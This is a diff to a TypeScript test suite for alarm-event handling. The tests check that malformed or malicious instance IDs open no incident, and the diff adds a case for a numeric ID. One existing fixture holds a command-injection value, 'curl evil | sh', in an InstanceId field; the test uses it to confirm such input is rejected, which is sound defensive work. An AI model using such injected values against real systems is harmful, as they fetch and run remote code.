@@ -173,6 +173,7 @@ describe('an event that opens no incident', () => {
     return { ...event, detail: { ...event.detail, state: { ...event.detail.state, actionsSuppressedBy } } };
   };
   const injected = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 'i-0aaaabbbb; curl evil | sh' } } });
+  const numbered = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { InstanceId: 7 } } });
   const nameless = sampleAlarm('contributor', { alarmContributor: { id: 'x', attributes: { host: 'web-1' } } });
 
   it.each<[string, unknown, Policy, number, string, boolean]>([
@@ -187,6 +188,7 @@ describe('an event that opens no incident', () => {
     ['about a fleet as a whole', sampleEvent('metric-alarm'), fleetPolicy, NOW, 'contributors-decide', false],
     ['naming an instance with shell syntax in it', injected, fleetPolicy, NOW, 'invalid-target', true],
     ['naming no instance', nameless, fleetPolicy, NOW, 'invalid-target', true],
+    ['naming an instance by what is no name', numbered, fleetPolicy, NOW, 'invalid-target', true],
     ['of a target group whose targets are all healthy', sampleEvent('metric-alarm'), balancedPolicy, NOW, 'no-target', true],
   ])('because it is %s is recorded by name, and starts nothing', async (_, event, policy, now, reason, told) => {
     await deliver(event, policy, now);
